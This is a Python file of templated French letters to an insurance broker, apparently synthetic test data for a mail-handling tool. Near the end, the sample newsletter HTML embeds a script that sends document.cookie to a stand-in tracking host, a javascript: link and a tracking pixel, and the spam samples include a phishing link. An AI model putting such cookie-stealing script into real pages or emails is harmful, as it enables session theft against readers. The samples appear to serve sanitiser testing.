"""What people write to a broker's office: French letters, with places for the particulars.

Places in braces are filled by `mailbox`: {contract}, {claim}, {vehicle}, {plate}, {street}, {town}, {day} (to come),
{past_day}, {insurer}, {amount}, {phone}, {client} (whom a third party writes about) and {manager} (a collaborator's
first name).

Particulars are impossible ones: plates hold the letters I, O and U, which no French plate does, and telephone numbers
stand in the ranges kept for fiction.
"""

from collections.abc import Mapping
from dataclasses import dataclass
from inspect import cleandoc

_SUBJECT = "Objet : "


@dataclass(frozen=True, slots=True)
class Letter:
    """A subject, a body and the names of what is attached, with places to fill."""

    subject: str
    body: str
    attachments: tuple[str, ...] = ()

    def filled(self, particulars: Mapping[str, str]) -> "Letter":
        return Letter(
            self.subject.format_map(particulars),
            self.body.format_map(particulars),
            tuple(name.format_map(particulars) for name in self.attachments),
        )


def _letters(written: str) -> tuple[Letter, ...]:
    return tuple(map(_letter, cleandoc(written).removeprefix(_SUBJECT).split(f"\n\n{_SUBJECT}")))


def _letter(written: str) -> Letter:
    """From a subject, followed by the names of what is attached if anything is, and a body under it."""
    head, _, body = written.partition("\n")
    subject, _, attached = head.removesuffix("]").partition(" [")
    return Letter(subject, body, tuple(attached.split(", ")) if attached else ())


FROM_A_PERSON = _letters("""
    Objet : Déclaration de sinistre - dégât des eaux du {past_day} [constat dégât des eaux.pdf, plafond.jpg, couloir.jpg]
    Bonjour,

    Je vous déclare un dégât des eaux survenu le {past_day} à mon domicile, {street}, {town}. L'eau est venue
    du plafond de la salle de bains ; l'enduit est tombé et le parquet du couloir gondole.

    Le voisin du dessus a fait couper l'eau le soir même. Nous avons rempli un constat amiable ensemble,
    que je joins avec trois photos. Contrat habitation n° {contract}.

    Dois-je attendre le passage de l'expert avant de faire sécher les murs ?

    Objet : Bris de glace [pare-brise.jpg]
    Bonjour {manager},

    Un caillou a fendu le pare-brise de ma {vehicle} ({plate}) hier sur la route de {town}. La fissure
    passe devant le volant, le réparateur dit qu'il faut remplacer.

    Pouvez-vous me confirmer qu'il n'y a pas de franchise (contrat {contract}) et me dire chez quel réparateur aller ?

    Objet : Accident de voiture ce {past_day} [constat recto.jpg, constat verso.jpg]
    Bonjour,

    J'ai eu un accrochage le {past_day} à {town}, au rond-point de la zone artisanale. Pas de blessé. L'autre
    conductrice ne m'a pas laissé la priorité, l'aile avant droite de la {vehicle} est enfoncée.

    Le constat est joint, recto et verso. La voiture roule mais le phare ne tient plus.
    Merci de m'indiquer la marche à suivre et le numéro du dossier.

    Objet : Demande d'attestation habitation
    Bonjour,

    Ma fille entre dans son logement étudiant à {town} et l'agence lui demande une attestation d'assurance habitation
    avant la remise des clés. Est-elle couverte par mon contrat {contract} ou faut-il en ouvrir un à son nom ?

    Il me faudrait le document avant le {day} si possible.

    Objet : attestation scolaire
    Bonjour

    l'école me réclame l'attestation responsabilité civile + individuelle accident pour les enfants,
    pouvez-vous me la renvoyer par mail ? Je ne la trouve plus sur l'espace client.

    Merci d'avance

    Objet : Relevé d'informations
    Madame, Monsieur,

    Je vous prie de bien vouloir m'adresser mon relevé d'informations automobile pour le véhicule
    {vehicle} immatriculé {plate}, contrat {contract}.

    Je rappelle que ce document doit m'être remis dans les quinze jours de ma demande.

    Objet : Changement d'adresse
    Bonjour,

    Nous déménageons le {day}. Notre nouvelle adresse sera : {street}, {town}.

    C'est une maison de 110 m², quatre pièces principales, avec un garage attenant et un poêle à bois
    posé par un professionnel. Merci de transférer le contrat habitation {contract} à cette date et de
    me dire si la cotisation change. Pour l'auto, le véhicule couchera désormais au garage.

    Objet : Résiliation loi Hamon - contrat {contract} [lettre de résiliation.pdf]
    Madame, Monsieur,

    Mon contrat {contract} a plus d'un an. Conformément à l'article L113-15-2 du code des assurances, je vous demande de
    le résilier ; la résiliation prendra effet un mois après la réception de la présente.

    Merci de m'en accuser réception et de me rembourser la part de cotisation non courue.

    Objet : Résiliation (loi Chatel)
    Bonjour,

    J'ai reçu l'avis d'échéance de mon contrat {contract} moins de quinze jours avant la date limite de résiliation.
    J'use donc de la faculté que me donne l'article L113-15-1 et je ne souhaite pas reconduire ce contrat.

    Merci de m'envoyer une confirmation écrite.

    Objet : Avis d'échéance reçu, question sur le tarif [avis_echeance_{contract}.pdf]
    Bonjour {manager},

    Je viens de recevoir l'avis d'échéance du contrat {contract} : {amount} au lieu de ce que je payais
    l'an dernier. Aucun sinistre pourtant depuis quatre ans.

    Pouvez-vous m'expliquer cette hausse et regarder si {insurer} peut faire un geste, ou si une autre
    compagnie serait mieux placée ?

    Objet : Devis pour une deuxième voiture [carte grise {plate}.pdf]
    Bonjour,

    Nous allons acheter une {vehicle} d'occasion pour mon conjoint. Pourriez-vous nous faire un devis tous risques et un
    devis au tiers étendu ? Usage privé et trajet travail, environ 9 000 km par an, stationnement dans la cour.

    Je vous joins la carte grise du vendeur.

    Objet : Mutuelle santé : comparaison
    Bonjour,

    Avec les lunettes des enfants et un appareil dentaire qui s'annonce, je voudrais revoir notre complémentaire.
    Pouvez-vous comparer la formule actuelle ({contract}) avec celle du dessus, surtout sur l'optique et l'orthodontie ?

    Un rendez-vous en fin de journée m'arrangerait, plutôt après le {day}.

    Objet : carte verte ??
    bonjour je n'ai toujours pas reçu ma carte verte pour la {vehicle}, la vignette sur le pare brise
    est périmée. On m'a dit que ça n'existe plus mais je préfère avoir un papier. merci

    Objet : Mémo véhicule assuré
    Bonjour,

    Pour un voyage à l'étranger, j'aurais besoin du mémo véhicule assuré de la {vehicle} ({plate}) et
    d'une attestation qui mentionne les pays couverts. Départ le {day}.

    Objet : Pièce manquante pour mon dossier {claim} [facture téléviseur.pdf, plaque_four.jpg]
    Bonjour,

    Suite à votre relance, voici enfin la facture d'achat du téléviseur et le rapport du dépanneur.
    Je n'ai pas retrouvé le ticket du four, une photo de la plaque signalétique peut-elle suffire ?

    Objet : Changement de compte bancaire
    Bonjour,

    Je change de banque. À partir de la prochaine échéance, merci de prélever sur le nouveau compte.
    Je préfère ne pas envoyer mon RIB par mail : je le déposerai à l'agence avant le {day}, ou
    dites-moi si vous avez un dépôt sécurisé. Il faudra sans doute signer un nouveau mandat SEPA.

    Objet : RÉCLAMATION - sinistre {claim}
    Madame, Monsieur,

    Voilà plus de deux mois que mon dossier {claim} est ouvert et je n'ai reçu ni rapport ni
    proposition. Trois appels, trois interlocuteurs, trois réponses différentes.

    Je vous demande de considérer ce courrier comme une réclamation et d'y répondre dans les délais.
    À défaut je saisirai le médiateur de l'assurance.

    Objet : Merci !
    Bonjour {manager},

    Un mot simplement pour vous remercier : le règlement du sinistre est arrivé ce matin et les travaux
    commencent lundi. Toute la famille a apprécié votre patience.

    Belle journée à toute l'équipe

    Objet : Vol de vélo [dépôt de plainte.pdf, facture velo.pdf]
    Bonjour,

    Le vélo électrique de ma femme a été volé le {past_day} devant la gare de {town}. Il était attaché par le
    cadre à un point fixe. Je joins le récépissé du dépôt de plainte et la facture.

    Est-il garanti par le contrat habitation {contract} ? Je sais que le délai de déclaration est court.

    Objet : Jeune conducteur [permis.png]
    Bonjour,

    Notre fils vient d'avoir son permis (conduite accompagnée). Combien coûterait de l'ajouter comme
    conducteur secondaire sur la {vehicle}, contrat {contract} ? Il ne la prendrait que le week-end.

    Objet : Vente de la {vehicle} [certificat_cession.pdf]
    Bonjour,

    J'ai vendu la {vehicle} ({plate}) le {past_day} à 10 h. Vous trouverez ci-joint le certificat de cession.
    Merci d'arrêter l'assurance à cette date.

    Objet : tempête, tuiles envolées [toit 1.jpg, toit 2.jpg]
    Bonjour, le vent de cette nuit a emporté une vingtaine de tuiles et le faîtage du garage. J'ai mis une
    bâche. Le couvreur ne peut pas venir avant le {day}. Est ce que je peux faire les réparations
    urgentes et vous envoyer la facture ensuite ? photos jointes

    Objet : Clause bénéficiaire assurance vie
    Bonjour,

    À la suite de la naissance de notre deuxième petit-fils, je souhaite modifier la clause bénéficiaire
    du contrat {contract}. Pouvez-vous me préparer le document ? Je passerai le signer.

    Objet : Chien et responsabilité civile
    Bonjour,

    Notre chien a renversé une dame âgée sur le marché de {town} le {past_day}. Elle a cassé ses lunettes et
    son poignet est douloureux. Elle m'a laissé ses coordonnées. Notre responsabilité civile
    ({contract}) joue-t-elle, et que dois-je lui répondre ?
""")

FROM_A_COMPANY = _letters("""
    Objet : Attestation RC professionnelle {contract}
    Bonjour,

    Un donneur d'ordre nous demande l'attestation de responsabilité civile professionnelle de l'année en
    cours, avec le détail des activités garanties. Merci de nous l'adresser avant le {day}.

    Objet : Déclaration de sinistre - bris de machine [devis réparation.pdf, machine.jpg]
    Bonjour,

    Nous vous déclarons la panne survenue le {past_day} sur notre matériel principal (surtension après
    l'orage). L'activité est arrêtée depuis. Devis de remise en état joint : {amount}.

    Notre contrat multirisque professionnelle {contract} couvre-t-il aussi la perte d'exploitation ?

    Objet : Flotte : entrée et sortie de véhicule [carte grise {plate}.pdf]
    Bonjour,

    À la flotte {contract} : entrée de {vehicle} immatriculé {plate} le {day}, tous risques ; sortie de
    l'ancien utilitaire le même jour. Merci pour l'avenant et le mémo véhicule assuré.

    Objet : Déclaration annuelle du chiffre d'affaires [déclaration {contract}.docx]
    Bonjour,

    Comme chaque année, voici les éléments pour la régularisation du contrat {contract} : chiffre
    d'affaires, masse salariale et effectif, visés par notre comptable.

    Objet : Vitrine brisée cette nuit [vitrine.jpg, facture mise en sécurité.pdf]
    Bonjour,

    La vitrine a été brisée cette nuit, rien n'a été emporté. La gendarmerie est passée. Un vitrier a
    sécurisé l'ouverture, sa facture est jointe. Merci de missionner rapidement pour le remplacement.

    Objet : Mutuelle collective : deux embauches
    Bonjour {manager},

    Deux personnes nous rejoignent le {day}. Pouvez-vous nous envoyer les bulletins d'affiliation à la
    complémentaire collective et la notice à leur remettre ? L'une d'elles demandera une dispense.

    Objet : Échéance {contract} : demande de remise en concurrence [avis_echeance.pdf]
    Bonjour,

    L'avis d'échéance de {insurer} annonce {amount}. Avant de payer nous souhaitons que vous
    interrogiez le marché, à garanties égales. Rappel de notre préavis : deux mois.

    Objet : Décennale - chantier de {town} [marché de travaux.docx]
    Bonjour,

    Le maître d'ouvrage du chantier de {town} ({street}) exige une attestation décennale nominative
    avant l'ouverture, le {day}. Le marché est joint. Peut-on l'obtenir de {insurer} dans ce délai ?

    Objet : Changement de domiciliation bancaire
    Bonjour,

    Notre entreprise change d'établissement bancaire. Vous recevrez le nouveau RIB par la poste, signé ;
    merci de ne tenir compte d'aucun autre envoi et de suspendre le prélèvement du mois.

    Objet : Homme clé et prévoyance du dirigeant
    Bonjour,

    Suite à notre échange, merci de nous chiffrer une garantie homme clé et une prévoyance pour le
    dirigeant, avec une franchise de trente puis de quatre-vingt-dix jours.
""")

FROM_A_PROSPECT = _letters("""
    Objet : Demande de devis auto [releve_informations.pdf]
    Bonjour,

    Je cherche une assurance pour une {vehicle}, première mise en circulation il y a six ans. Bonus 0,68,
    aucun sinistre responsable. Mon assureur actuel est {insurer}. Pouvez-vous me faire une proposition ?
    On peut me joindre au {phone} après 18 h.

    Objet : devis habitation
    bonjour, je vais louer un T3 de 62 m² à {town}, au 2e étage. Il me faut une assurance pour le {day}.
    Quels sont vos tarifs et peut-on tout faire par mail ? merci

    Objet : Complémentaire santé, passage à la retraite
    Bonjour,

    Je quitterai mon entreprise à la fin du mois et je perdrai la mutuelle collective. Je souhaite une
    proposition pour deux adultes, avec un bon niveau en dentaire et en audition.

    Objet : RC Pro et local : demande de tarif [projet de bail.docx]
    Bonjour,

    L'activité démarre à {town} dans deux mois. Il nous faudrait une RC professionnelle et une
    multirisque pour un local de 85 m². Quelles pièces vous faut-il ?

    Objet : Re: votre proposition
    Bonjour {manager},

    Votre proposition me convient, sauf la franchise de {amount} que je trouve élevée. Si elle peut être
    ramenée de moitié, je signe avant le {day}.

    Objet : Pièces pour le devis [permis recto.jpg, ancien contrat.pdf]
    Bonjour,

    Voici le permis et l'ancien contrat que vous m'avez demandés. Il ne manque plus que le relevé
    d'informations, que j'ai réclamé à {insurer}.
""")

FOLLOW_UPS = (
    "Bonjour,\n\nMerci de votre réponse rapide. Je vous envoie le document manquant dans la journée.",
    "Bonjour,\n\nC'est bien noté pour la franchise. Vous pouvez lancer le dossier.",
    "Merci beaucoup, c'est exactement ce qu'il me fallait.",
    "Bonjour,\n\nJe n'ai rien reçu de l'expert à ce jour. Faut-il le relancer, ou vous en chargez-vous ?",
    "Bonjour\n\nci-joint la pièce demandée.\n\nEnvoyé de mon téléphone",
    "Bonjour,\n\nLe rendez-vous me convient. Je viendrai avec l'original.",
    "Bonjour,\n\nAprès réflexion je préfère garder la formule actuelle. Pouvez-vous annuler la demande ?",
    "Je me permets de vous relancer, la date approche et l'agence ne me donnera pas les clés sans le papier.",
)

OFFICE_REPLIES = (
    "Bonjour,\n\nVotre message est bien arrivé, il porte la référence {claim}. Il nous manque une pièce justificative.",
    "Bonjour,\n\nNous avons transmis votre demande à {insurer}. Comptez deux à trois jours ouvrés.",
    "Bonjour,\n\nLe document demandé part aujourd'hui. N'hésitez pas à nous appeler au 01 99 00 41 70.",
    "Bonjour,\n\nJe vous propose un rendez-vous à l'agence le {day} en fin de matinée. Cela vous convient-il ?",
    "Bonjour,\n\nLa franchise de votre contrat {contract} est de {amount}. Souhaitez-vous maintenir la demande ?",
)

OFFICE_SUBJECTS = (
    "Votre avis d'échéance - contrat {contract}",
    "Relance : pièce manquante - dossier {claim}",
    "Votre proposition d'assurance",
    "Votre rendez-vous du {day}",
)

FROM_A_SHARED_ADDRESS = _letters("""
    Objet : Assurance de la maison
    Bonjour,

    Nous avons refait la véranda, elle fait maintenant 18 m² et elle est chauffée. Faut-il la déclarer ?

    Objet : Voiture en panne, contrat {contract}
    Bonjour,

    La {vehicle} est immobilisée à {town}. L'assistance nous demande le numéro du contrat et la liste des
    conducteurs. Pouvez-vous les leur envoyer ?

    Objet : Remboursement dentiste [devis dentaire.pdf]
    Bonjour,

    Le devis du dentiste est joint. Quel sera le reste à charge ? Il est au nom de l'un de nous deux, mais
    c'est bien le même contrat.

    Objet : Attestations pour les enfants
    Bonsoir, il nous faudrait les deux attestations scolaires pour la rentrée. Merci !
""")

GARAGE_LETTERS = _letters("""
    Objet : Véhicule {plate} - {client} - devis de réparation [devis {plate}.pdf, aile avant.jpg]
    Bonjour,

    Le véhicule de {client} ({vehicle}, {plate}) est à l'atelier depuis le {past_day}. Veuillez trouver notre
    devis : {amount} TTC. Nous attendons l'accord de l'expert pour commander les pièces.

    Objet : Prise en charge directe ? [cession de créance.pdf]
    Bonjour,

    Pour {client}, la compagnie accepte-t-elle le règlement direct ? Cession de créance jointe.
""")

EXPERT_LETTERS = _letters("""
    Objet : Expertise {claim} - convocation du {day}
    Madame, Monsieur,

    Missionnés par {insurer} dans le sinistre {claim} de votre client {client}, nous procéderons à
    l'expertise le {day} à 14 h 30, {street}, {town}. Merci de nous faire parvenir le contrat, les factures
    et les photographies avant cette date.

    Objet : Rapport d'expertise {claim} [rapport {claim}.pdf]
    Madame, Monsieur,

    Ci-joint notre rapport dans le dossier {client}. Dommages évalués à {amount}, vétusté déduite. Nous
    restons à votre disposition.
""")

NOTARY_LETTERS = _letters("""
    Objet : Vente {client} - attestation d'assurance de l'immeuble
    Madame, Monsieur,

    Dans la vente au profit de {client}, dont la signature est prévue le {day}, l'étude a besoin de
    l'attestation d'assurance du bien sis {street}, {town}.

    Objet : Succession - contrats en cours [mandat de l'étude.pdf]
    Madame, Monsieur,

    Chargée d'une succession à laquelle {client} est partie, l'étude vous prie de lui indiquer les
    contrats en cours à votre cabinet et les cotisations dues à la date du {past_day}.
""")

SYNDIC_LETTERS = _letters("""
    Objet : Fuite en partie commune - lot de {client} [compte rendu plombier.pdf]
    Bonjour,

    Une fuite sur la colonne commune a touché le lot de {client}, {street}, {town}. Merci de nous
    communiquer les références de son assurance habitation et la nature des dommages constatés.

    Objet : Attestation multirisque copropriétaire
    Bonjour,

    Sauf erreur, l'attestation annuelle de {client} ne nous est pas parvenue. Merci de nous l'adresser.
""")

ACCOUNTANT_LETTERS = _letters("""
    Objet : {client} - situation des cotisations
    Bonjour,

    Pour la clôture des comptes de {client}, pourriez-vous nous transmettre les quittances de l'exercice
    et le solde dû à {insurer} ?
""")

NEIGHBOUR_LETTERS = _letters("""
    Objet : Branche tombée sur ma clôture [cloture.jpg]
    Bonjour,

    Je crois que vous êtes l'assureur de {client}, qui habite à côté de chez moi {street}. Une branche de
    son tilleul a écrasé ma clôture le {past_day}. Nous sommes en bons termes, mais
    j'aimerais que la réparation soit remboursée. Mon numéro : {phone}.
""")

FROM_AN_INSURER = _letters("""
    Objet : Accusé de réception - sinistre {claim}
    Cher partenaire,

    Nous accusons réception de la déclaration concernant votre client {client}, contrat {contract}. Le
    dossier porte la référence {claim}. Un expert est missionné.

    Objet : Avis d'échéance : bordereau du mois [bordereau.pdf]
    Cher partenaire,

    Le bordereau des avis d'échéance du mois est à votre disposition. Les assurés le recevront à compter du {day}.

    Objet : Relance : pièces manquantes {contract}
    Bonjour,

    Sauf erreur ou omission, il nous manque pour {client} : le relevé d'informations et la copie du permis.
    Sans ces pièces avant le {day}, la garantie provisoire cessera.

    Objet : Impayé - mise en demeure {contract}
    Bonjour,

    La cotisation de {client} ({amount}) est restée impayée. La mise en demeure est partie ce jour ; la
    garantie sera suspendue trente jours après (article L113-3).

    Objet : Règlement du sinistre {claim} [lettre de règlement.pdf]
    Cher partenaire,

    Nous avons ce jour ordonné le règlement de {amount} à votre client {client}. Le dossier sera clos sous
    quinzaine, sauf recours.
""")

FROM_A_WHOLESALE_BROKER = _letters("""
    Objet : Votre demande de tarification - {client} [cotation.pdf, questionnaire.docx]
    Bonjour,

    Ci-joint notre cotation pour {client} : {amount} par an, franchise 10 %. Valable trente jours, sous
    réserve du questionnaire signé.

    Objet : Bordereau de commissions [commissions.pdf]
    Bonjour,

    Votre bordereau du mois est joint. Règlement le {day}.
""")

SPAM = _letters("""
    Objet : Félicitations !!! Votre gain de 850 000 vous attend
    Cher bénéficiaire, votre adresse électronique est sortie au grand tirage. Répondez avec vos coordonnées
    pour recevoir votre lot sous 48 heures. CONFIDENTIEL.

    Objet : Votre colis est bloqué
    Votre colis n'a pas pu être livré. Réglez les frais de 1,99 : https://colis-retenu.example/payer?id=88121

    Objet : Première page garantie pour votre site
    Bonjour, j'ai visité votre site et relevé 14 erreurs. Puis-je vous envoyer un audit gratuit ?

    Objet : Photovoltaïque : reste à charge ZERO
    Propriétaires de votre commune, vous êtes éligible. Dernier jour ! https://soleil-gratuit.example/
""")

FORWARD_NOTE = "Pour suite à donner, reçu sur ma boîte.\n\n{manager}"

NEWSLETTER_TEXT = """\
La Lettre du Zinc - l'actualité du courtage de proximité

Devoir de conseil : ce qu'il faut tracer. Échéances : mieux prévenir que relancer.
Lire en ligne : https://lettre-du-zinc.example/numeros/{number}
"""

NEWSLETTER_HTML = """\
<html><head><style>p {{ color: #333 }}</style>
<script>document.location = "https://pistage.example/c?" + document.cookie;</script></head>
<body onload="pister()">
<h1>La Lettre du Zinc n° {number}</h1>
<p>Devoir de conseil : ce qu'il faut tracer. <a href="javascript:alert(1)">Lire la suite</a></p>
<p><a href="https://lettre-du-zinc.example/numeros/{number}">Lire en ligne</a></p>
<img src="https://pistage.example/ouvert.gif?lecteur=4471&amp;numero={number}" width="1" height="1" alt="">
</body></html>
"""
